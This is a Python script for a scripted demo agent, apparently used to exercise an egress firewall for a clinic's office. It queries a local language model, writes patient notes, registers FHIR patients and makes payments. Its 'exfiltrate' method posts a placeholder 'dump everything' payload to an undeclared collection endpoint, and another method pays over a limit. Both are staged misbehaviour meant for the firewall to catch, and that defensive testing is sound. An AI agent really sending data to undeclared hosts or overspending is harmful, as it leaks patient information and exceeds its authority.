"""The demo's agent: an ordinary program that knows nothing of the firewall but its environment.

Reads one step's name a line from stdin and answers each with a line of JSON. The addresses of the
services come as JSON in the first argument.
"""

from __future__ import annotations

import json
import sys
import time
from typing import Any

import httpx
import openai

from scripts.demo_story import NOTE, PATIENT

Answer = dict[str, Any]


class Agent:
    """Does what an agent of a clinic's office might do, good and bad."""

    def __init__(self, services: dict[str, str]) -> None:
        self._services = services
        self._http = httpx.Client(timeout=20)
        self._llm = openai.OpenAI(base_url=services["llm"] + "/v1", api_key="demo", max_retries=0)

    def ask(self) -> Answer:
        """Ask the language model and read its answer as it is written."""
        start, pieces, times = time.perf_counter(), [], []
        question = "How do I reach the billing office?"
        stream = self._llm.chat.completions.create(
            model="local-1", messages=[{"role": "user", "content": question}], stream=True
        )
        for chunk in stream:
            if chunk.choices and chunk.choices[0].delta.content:
                pieces.append(chunk.choices[0].delta.content)
                times.append(round(time.perf_counter() - start, 3))
        return {"text": "".join(pieces), "times": times}

    def exfiltrate(self) -> Answer:
        """Send something to a place that nobody has declared."""
        return self._post(self._services["unknown"] + "/collect", json={"dump": "everything"})

    def pay_much(self) -> Answer:
        """Make a payment over the limit."""
        return self._pay(7500)

    def pay_little(self) -> Answer:
        """Make a payment within the limit."""
        return self._pay(40)

    def note(self) -> Answer:
        """Write a note about a patient."""
        return self._post(
            self._services["ehr"] + "/notes", content=NOTE, headers={"content-type": "text/plain"}
        )

    def patient(self) -> Answer:
        """Register a patient as a FHIR resource."""
        return self._post(self._services["ehr"] + "/fhir/Patient", json=PATIENT)

    def _pay(self, amount: int) -> Answer:
        payment = {"amount": amount, "currency": "USD", "to": "City Laboratory"}
        return self._post(self._services["pay"] + "/v1/payments", json=payment)

    def _post(self, url: str, **content: Any) -> Answer:
        try:
            reply = self._http.post(url, **content)
        except httpx.ProxyError as error:
            return {"refused": str(error)}
        document = reply.json()
        said = document.get("error", {}).get("message", "") if reply.status_code >= 400 else ""
        return {"status": reply.status_code, "said": said}


def main() -> None:
    """Serve the steps until stdin ends."""
    agent = Agent(json.loads(sys.argv[1]))
    for line in sys.stdin:
        try:
            answer = getattr(agent, line.strip())()
        except (httpx.HTTPError, openai.OpenAIError) as error:
            answer = {"failed": f"{type(error).__name__}: {error}"}
        print(json.dumps(answer), flush=True)


if __name__ == "__main__":
    main()
